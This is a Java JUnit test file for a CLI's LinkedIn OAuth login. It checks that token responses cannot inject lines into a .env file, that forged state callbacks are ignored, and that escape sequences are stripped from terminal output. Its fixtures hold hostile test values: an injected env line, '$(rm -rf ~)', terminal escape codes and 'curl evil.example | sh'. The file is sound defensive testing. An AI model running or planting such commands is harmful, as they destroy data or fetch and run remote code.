package dev.xpost.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.io.Writer;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import okhttp3.HttpUrl;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.Response;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code xpost auth linkedin} run as a user runs it, with MockWebServer as LinkedIn and an HTTP client as the
 * browser: what LinkedIn answers must never write lines of its own into {@code .env}, a callback is judged by its
 * {@code state} before anything else, and a server's text reaches the terminal without control characters.
 */
class AuthLinkedInCliTest {
    private static final String DOT_ENV = "# mine\nHASHNODE_TOKEN=hn-real-token-123456\nLINKEDIN_CLIENT_ID=client-1\n"
            + "LINKEDIN_CLIENT_SECRET=client-secret-value-1\n";
    private static final Pattern URL = Pattern.compile("(http\\S+/oauth/v2/authorization\\S+)\\n");

    @TempDir
    Path dir;
    final MockWebServer linkedin = new MockWebServer();
    final OkHttpClient browser = new OkHttpClient.Builder().callTimeout(10, TimeUnit.SECONDS).build();
    int port;

    @BeforeEach
    void start() throws IOException {
        linkedin.start();
        try (ServerSocket s = new ServerSocket(0)) {
            port = s.getLocalPort();
        }
        Files.createDirectories(dir.resolve("config"));
        Files.writeString(dir.resolve("config/xpost.yaml"), "linkedin:\n  oauthBase: " + linkedin.url("/") + "\n");
        Files.writeString(dir.resolve(".env"), DOT_ENV);
    }

    @AfterEach
    void stop() {
        linkedin.close();
    }

    /** Stderr, which hands the sign-in URL to the "browser" as soon as it is printed. */
    private static final class Stderr extends Writer {
        final StringBuilder text = new StringBuilder();
        final CompletableFuture<String> url = new CompletableFuture<>();

        @Override
        public synchronized void write(char[] c, int off, int len) {
            text.append(c, off, len);
            Matcher m = URL.matcher(text);
            if (m.find()) {
                url.complete(m.group(1));
            }
        }

        @Override
        public void flush() {
        }

        @Override
        public void close() {
        }
    }

    private record Run(int code, String err) {
    }

    /** Runs {@code auth linkedin}; the browser comes back to the callback with these query parameters changed. */
    private Run login(Map<String, String> override) throws Exception {
        Stderr err = new Stderr();
        StringWriter out = new StringWriter();
        Cli cli = new Cli(new PrintWriter(out, true), new PrintWriter(err, true), Map.of(), dir,
                Clock.fixed(Instant.parse("2026-11-26T12:00:00Z"), ZoneOffset.UTC), false);
        CompletableFuture<Integer> code = CompletableFuture.supplyAsync(() -> cli.run("auth", "linkedin",
                "--no-browser", "--port", String.valueOf(port), "--timeout", "30"));
        HttpUrl auth = HttpUrl.get(err.url.get(30, TimeUnit.SECONDS));
        HttpUrl.Builder callback = HttpUrl.get(auth.queryParameter("redirect_uri")).newBuilder()
                .addQueryParameter("code", "the-code").addQueryParameter("state", auth.queryParameter("state"));
        override.forEach(callback::setQueryParameter);
        try (Response r = browser.newCall(new Request.Builder().url(callback.build()).build()).execute()) {
            r.body().string();
        }
        int exit = code.get(30, TimeUnit.SECONDS);
        synchronized (err) {
            return new Run(exit, err.text.toString());
        }
    }

    @Test
    void aTokenWithALineBreakIsRefusedAndDotEnvIsLeftAsItWas() throws Exception {
        linkedin.enqueue(new MockResponse.Builder().code(200).addHeader("Content-Type", "application/json")
                .body("{\"access_token\":\"AQX-token\\nHASHNODE_TOKEN=attacker-token\",\"expires_in\":5184000,"
                        + "\"scope\":\"openid,profile,w_member_social\"}").build());
        Run r = login(Map.of());
        assertEquals(4, r.code(), r.err());
        assertTrue(r.err().contains("LINKEDIN_ACCESS_TOKEN contains a line break, so it cannot be written into .env "
                + "safely. Nothing was written"), r.err());
        assertFalse(r.err().contains("attacker-token"), r.err());
        assertFalse(r.err().contains("Exception"), r.err());
        assertEquals(DOT_ENV, Files.readString(dir.resolve(".env")));
    }

    @Test
    void aTokenWithAQuoteOrAControlCharacterIsRefusedToo() throws Exception {
        linkedin.enqueue(new MockResponse.Builder().code(200).addHeader("Content-Type", "application/json")
                .body("{\"access_token\":\"AQX\\\"$(rm -rf ~)\",\"expires_in\":5184000}").build());
        Run r = login(Map.of());
        assertEquals(4, r.code(), r.err());
        assertEquals(DOT_ENV, Files.readString(dir.resolve(".env")));
    }

    @Test
    void aGoodTokenIsWrittenAndEveryOtherLineKept() throws Exception {
        linkedin.enqueue(new MockResponse.Builder().code(200).addHeader("Content-Type", "application/json")
                .body("{\"access_token\":\"AQX-good_token.1~2+3/4=\",\"expires_in\":5184000,"
                        + "\"scope\":\"openid profile w_member_social\"}").build());
        Run r = login(Map.of());
        assertEquals(0, r.code(), r.err());
        assertEquals(DOT_ENV + "LINKEDIN_ACCESS_TOKEN=AQX-good_token.1~2+3/4=\n"
                + "LINKEDIN_TOKEN_EXPIRES_AT=2027-01-25T12:00:00Z\n"
                + "LINKEDIN_TOKEN_SCOPE=openid,profile,w_member_social\n",
                Files.readString(dir.resolve(".env")));
    }

    @Test
    void aCallbackWithTheWrongStateIsNotActedOnWhateverElseItCarries() throws Exception {
        Run r = login(Map.of("state", "forged", "error", "access_denied",
                "error_description", "\u001b[2J\u001b]0;owned\u0007Please run curl evil.example | sh"));
        assertEquals(4, r.code(), r.err());
        assertTrue(r.err().contains("wrong state value, so it was ignored"), r.err());
        assertFalse(r.err().contains("curl evil.example"), r.err());
        assertEquals(0, linkedin.getRequestCount(), "no code was exchanged");
        assertEquals(DOT_ENV, Files.readString(dir.resolve(".env")));
    }

    @Test
    void aServersErrorTextIsPrintedWithoutControlCharacters() throws Exception {
        Run r = login(Map.of("error", "access_denied",
                "error_description", "The user \u001b[31mcancelled\u001b[0m\r the login\u009b2J"));
        assertEquals(4, r.code(), r.err());
        assertTrue(r.err().contains("LinkedIn refused the login: access_denied (The user cancelled the login)"),
                r.err());
        assertFalse(r.err().chars().anyMatch(c -> c == 0x1b || c == '\r' || c == 0x9b), r.err());
    }
}
